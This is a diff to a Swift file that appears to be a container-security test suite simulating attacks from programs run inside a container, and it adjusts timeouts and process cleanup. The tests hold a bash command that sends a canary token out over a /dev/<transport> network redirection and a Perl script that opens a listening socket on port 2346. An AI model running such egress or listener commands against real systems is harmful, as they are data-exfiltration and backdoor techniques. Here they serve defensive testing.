@@ -1,3 +1,5 @@
+import Glibc
+
 /// By programs that were brought into the container, as by `kubectl exec`; for any service.
 public enum ForeignAttacks {
     static let loader = "/lib64/ld-linux-x86-64.so.2"
@@ -42,7 +44,7 @@ public enum ForeignAttacks {
                 try target.egress {
                     let path = "/dev/\(transport)/\(to)/\(EgressListener.port)"
                     let script = "echo \(Canary.token()) >\(path)"
-                    return try target.container.exec(["/bin/bash", "-c", script], timeout: 4).stderr
+                    return try target.container.exec(["/bin/bash", "-c", script]).stderr
                 }
             }
         }
@@ -64,14 +66,21 @@ public enum ForeignAttacks {
         Attack("foreign-listen", .listen, "perl listens on port 2346") { target in
             let token = Canary.token()
             let script = #"""
-                use Socket; alarm 3; socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
+                use Socket; alarm 60; socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
                 setsockopt($s, SOL_SOCKET, SO_REUSEADDR, 1);
                 bind($s, pack_sockaddr_in(2346, INADDR_ANY)) or die "bind: $!";
                 listen($s, 1) or die "listen: $!"; accept(my $peer, $s); syswrite($peer, $ARGV[0]);
                 """#
-            _ = try? target.container.execDetached(["/usr/bin/perl", "-e", script, token])
-            try? target.container.waitUntilListening(2346, timeout: 1.5)
-            let reply = try Probe.exchange(in: target.container, port: 2346, "", timeout: 2)
+            let container = target.container
+            let pid = try? container.execDetached(["/usr/bin/perl", "-e", script, token])
+            if let pid {
+                try waitUntil { try container.isListening(2346) || RuncContainer.hasEnded(pid) }
+            }
+            let reply = try Probe.exchange(in: container, port: 2346, "")
+            if let pid {
+                if container.isMember(pid) { kill(pid, SIGKILL) }
+                waitUntil { RuncContainer.hasEnded(pid) }
+            }
             return .byText(reply, has: token, what: "port 2346 answered")
         },
     ]
